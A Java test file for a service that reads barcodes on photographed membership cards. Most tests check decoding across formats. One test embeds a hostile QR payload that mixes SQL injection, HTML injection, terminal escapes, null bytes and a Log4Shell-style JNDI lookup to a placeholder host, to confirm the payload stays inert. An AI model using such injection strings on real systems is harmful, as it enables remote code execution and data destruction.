package io.handoff.reading;

import static org.assertj.core.api.Assertions.assertThat;

import com.google.zxing.BarcodeFormat;
import io.handoff.cardpress.CardDesign;
import io.handoff.cardpress.CodedCard;
import io.handoff.cardpress.JpegPress;
import io.handoff.cardpress.SpecimenCard;
import io.handoff.fields.CardFields;
import io.handoff.fields.FieldName;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** Codes on cards that were photographed as phones do, through the image workers. */
class CodesInPhotographsTest {

    private static final SpecimenCard CARD = SpecimenCard.complete();
    private static ImageWorkers workers;

    @BeforeAll
    static void start() {
        workers = new ImageWorkers(TestWorkers.settings(1));
    }

    @AfterAll
    static void stop() {
        workers.close();
    }

    @ParameterizedTest
    @CsvSource({
        "PDF_417, PDF417, 0.45, 1",
        "PDF_417, PDF417, 0.45, 2",
        "DATA_MATRIX, DATA_MATRIX, 0.16, 3",
        "QR_CODE, QR, 0.18, 4",
        "CODE_128, CODE_128, 0.45, 5"
    })
    void aCodeIsDecodedAndTheCardReadAllTheSame(BarcodeFormat format, Code.Kind kind, double share, long seed)
            throws Exception {
        var card = CodedCard.front(CARD, format, CARD.memberNumber(), share);

        Reading reading = workers.read(CodedCard.photographed(card, seed));

        assertThat(reading.codes()).containsExactly(new Code(kind, CARD.memberNumber()));
        assertThat(CardFields.of(reading).get(FieldName.MEMBER_NUMBER).orElseThrow())
                .satisfies(field -> assertThat(field.value()).isEqualTo(CARD.memberNumber()))
                .satisfies(field -> assertThat(field.score()).isGreaterThan(0.95));
    }

    @Test
    void contentsThatAreHostileArriveUnchangedAndMakeNothing() throws Exception {
        String hostile = "%00\u0000\u001b[2J';drop table card;--\nMember ID: <b>EVIL123456</b>\r\n${jndi:ldap://x/a}";
        var card = CodedCard.front(CARD, BarcodeFormat.QR_CODE, hostile, 0.35);

        Reading reading = workers.read(JpegPress.baseline(card));

        assertThat(reading.codes()).containsExactly(new Code(Code.Kind.QR, hostile));
        assertThat(CardFields.of(reading)
                        .get(FieldName.MEMBER_NUMBER)
                        .orElseThrow()
                        .value())
                .isEqualTo(CARD.memberNumber());
    }

    @Test
    void aCardWithoutACodeHasNone() throws Exception {
        assertThat(workers.read(JpegPress.baseline(CARD.front(CardDesign.STACKED)))
                        .codes())
                .isEmpty();
    }
}
